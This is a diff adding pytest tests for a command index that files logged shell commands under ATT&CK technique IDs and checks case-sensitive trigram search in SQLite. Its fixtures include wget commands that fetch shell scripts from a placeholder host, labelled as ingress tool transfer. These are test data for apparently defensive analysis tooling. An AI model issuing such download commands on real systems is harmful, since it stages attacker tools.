@@ -0,0 +1,44 @@
+import sqlite3
+
+import pytest
+
+from my_queen.command_index import CommandIndex
+from my_queen.command_store import CommandStore
+
+
+@pytest.fixture
+def index(tmp_path):
+    store = CommandStore()
+    store.add('T1105', 'wget http://x/a.sh', '2024-05-01T10:00:00', source='a.log')
+    store.add('T1105', 'WGET http://x/b.sh', '2024-05-01T11:00:00', source='a.log')
+    store.add('T1082', 'uname -a', '2024-05-01T12:00:00', source='b.log')
+    index = CommandIndex(str(tmp_path / 'commands.db'))
+    index.add_store(store)
+    return index
+
+
+@pytest.mark.parametrize('term, expected', [
+    ('WGET', ['WGET http://x/b.sh']),     # trigram index
+    ('WG', ['WGET http://x/b.sh']),       # too short for trigrams, instr() scan
+    ('wget', ['wget http://x/a.sh']),
+    ('-a', ['uname -a']),
+])
+def test_substring_search_is_case_sensitive_for_any_term_length(index, term, expected):
+    assert [row['command'] for row in index.query(contains=term)] == expected
+
+
+def test_case_insensitive_index_is_rebuilt(tmp_path):
+    path = str(tmp_path / 'old.db')
+    index = CommandIndex(path)
+    if not index.has_fts:
+        pytest.skip('SQLite without the trigram tokenizer')
+    conn = sqlite3.connect(path)
+    with conn:
+        conn.execute("DROP TABLE commands_fts")
+        conn.execute("CREATE VIRTUAL TABLE commands_fts USING fts5(command, content='commands', "
+                     "content_rowid='id', tokenize='trigram')")
+        conn.execute("INSERT INTO commands (ttp, command, count) VALUES ('T1105', 'wget http://x', 1)")
+        conn.execute("INSERT INTO commands_fts (commands_fts) VALUES ('rebuild')")
+    conn.close()
+
+    assert CommandIndex(path).query(contains='WGET') == []